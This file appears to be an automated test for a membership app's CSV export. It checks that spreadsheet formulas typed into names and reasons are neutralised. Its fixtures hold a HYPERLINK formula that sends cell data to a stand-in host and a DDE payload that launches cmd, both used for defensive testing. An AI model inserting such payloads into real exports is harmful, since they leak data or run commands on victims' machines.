import { toIsoDate } from '@mvm/domain';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '../../src/rapporten/export-service';
import { buildTestApp, type TestContext } from '../helpers/build';
import { statisticsSeed } from '../helpers/statistics-seed';

// Issue 24 finding 5: text typed at a desk reaches the exports; a spreadsheet must show it, never run it.
const DAY = 86_400_000;
const now = Date.now();
const days = (n: number) => new Date(now + n * DAY);
const HYPERLINK = '=HYPERLINK("https://x.example/?d="&B2;"klik")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

let t: TestContext;
beforeAll(async () => {
  t = await buildTestApp();
  const seed = await statisticsSeed(t.database.db);
  await seed.insert({
    mvmnummer: 1,
    leden: [{ voornaam: HYPERLINK, geboortedatum: '1980-01-01', telefoonnummer: '+32 470 12 34 56' }],
    lidmaatschap: [
      {
        start: days(-200),
        eind: days(160),
        vroegtijdigBeindigd: true,
        vroegtijdigBeindigdOp: days(-10),
        redenenBeindiging: DDE,
      },
    ],
  });
});
afterAll(() => t.close());

const csvLines = async (url: string) => {
  const res = await t.call(t.adminToken, { method: 'GET', url });
  expect(res.statusCode, res.body).toBe(200);
  return res.body
    .replace(/^\uFEFF/, '')
    .trimEnd()
    .split('\r\n');
};

describe('the CSV writer', () => {
  it('quotes a text that a spreadsheet would run and keeps numbers as numbers', () => {
    expect(toCsv([['-1+1', -3, 4, 'a;=b', '=1;2', 'Jan']])).toBe(`\uFEFF'-1+1;-3;4;"a;=b";"'=1;2";Jan\r\n`);
  });
});

describe('the exports', () => {
  it('neutralise a name, a phone number and a reason in the renewal worklist', async () => {
    const [, row] = await csvLines('/v1/rapporten/verlengen/csv?soort=alle');
    // The formula holds a ';', so its cell is quoted; inside the quotes it starts with the neutralising quote.
    const start = `MVM1;"'=HYPERLINK(""https://x.example/?d=""&B2;""klik"")";Test;'+32 470 12 34 56;`;
    expect(row!.slice(0, start.length)).toBe(start);
    const cells = row!.split(';');
    expect(cells.at(-1)).toBe(`'${DDE}`);
  });

  it('neutralise a reason in the report', async () => {
    const van = toIsoDate(days(-30));
    const tot = toIsoDate(days(0));
    const lines = await csvLines(`/v1/rapporten/csv?van=${van}&tot=${tot}`);
    expect(lines).toContain(`'${DDE};1`);
    expect(lines.some((l) => l.startsWith('@') || l.startsWith('='))).toBe(false);
  });
});
